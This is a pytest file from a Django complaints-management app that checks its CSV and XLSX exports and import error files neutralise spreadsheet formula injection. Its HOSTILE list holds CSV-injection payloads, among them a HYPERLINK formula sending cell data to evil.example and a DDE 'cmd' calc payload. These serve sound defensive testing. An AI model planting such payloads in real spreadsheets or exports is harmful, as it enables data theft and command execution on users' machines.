"""Every CSV and XLSX CFMP writes opens in a spreadsheet as text, whatever a name says
(OWASP's CSV injection rule), and its numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from cfmp.accounts.models import Role
from cfmp.core.spreadsheets import FORMULA_STARTS, safe_cell
from cfmp.intake.models import ImportJob
from cfmp.reports.exports import FORMATS
from cfmp.reports.rollups import rebuild_rollups
from tests.cases.support import complaint
from tests.factories import OfficialFactory
from tests.intake.test_web import post_upload

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
SPREADSHEET_FORMATS = [fmt for fmt in FORMATS if fmt in ("csv", "xlsx")]


def test_the_rule_covers_every_dangerous_start_and_leaves_numbers_alone():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert {text[0] for text in HOSTILE} == set(FORMULA_STARTS)
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell("Asif") == "Asif"


@pytest.fixture
def hostile_officials(world):
    for n, name in enumerate(HOSTILE):
        OfficialFactory(office=world.lahore_revenue, employee_code=f"H-{n}", name=name)
        complaint("LHR-REV", official=f"H-{n}")
    rebuild_rollups()


def _download(client, fmt: str) -> bytes:
    response = client.get(
        reverse("reports:download", args=["complaints-by-official-range", fmt]),
        {"from": "2026-03-01", "to": "2026-03-31"},
    )
    assert response.status_code == 200
    return response.content


@pytest.mark.parametrize("fmt", SPREADSHEET_FORMATS)
def test_every_report_export_writes_hostile_names_as_text(client, world, hostile_officials, fmt):
    client.force_login(world.users[Role.SECRETARIAT])
    data = _download(client, fmt)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
        labels = [row[0] for row in rows[2:]]
        for name in HOSTILE:
            assert "'" + name in labels, name
        for row in rows[2:]:
            assert not row[0].startswith(FORMULA_STARTS), row
            assert row[2].isdigit() or row[2] in ("", "suppressed"), row  # counts as numbers
    else:
        sheet = load_workbook(io.BytesIO(data)).active
        cells = [row[0] for row in sheet.iter_rows(min_row=5)]
        by_value = {cell.value: cell for cell in cells}
        for name in HOSTILE:
            if "\r" not in name:  # (openpyxl reads a carriage return back as _x000D_)
                assert by_value[name].data_type == "s", name  # text, never a formula
        assert all(cell.data_type == "s" for cell in cells if cell.value is not None)
        counts = [row[2].value for row in sheet.iter_rows(min_row=5) if row[2].value is not None]
        assert counts and all(isinstance(value, int | float) for value in counts)
        # and the file on disk says so: no formula element anywhere in the sheet
        import zipfile

        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in xml and "<f " not in xml


def test_the_import_error_file_writes_hostile_names_as_text(
    client, world, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    operator = world.users[Role.DATA_ENTRY_OPERATOR]
    header = "reference,occurred_at,service,office,official,citizen_name,mobile,cnic\n"
    lines = [
        f'E-{n},bad date,driving-licence,LHR-POL,,"{name.replace(chr(34), chr(34) * 2)}",0300-5551234,\n'
        for n, name in enumerate(HOSTILE)
    ]
    client.force_login(operator)
    upload = SimpleUploadedFile("bad.csv", (header + "".join(lines)).encode())
    with django_capture_on_commit_callbacks(execute=True):
        post_upload(client, upload)  # the page as rendered (its one-submission token)
    job = ImportJob.objects.get()
    errors = client.get(reverse("intake:import-job-errors", args=[job.pk]))
    rows = list(csv.reader(io.StringIO(b"".join(errors.streaming_content).decode("utf-8-sig"))))
    names = {row[rows[0].index("citizen_name")] for row in rows[1:]}
    for name in HOSTILE:
        assert "'" + name in names or "'" + name.strip() in names, (name, names)
    for row in rows[1:]:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), row
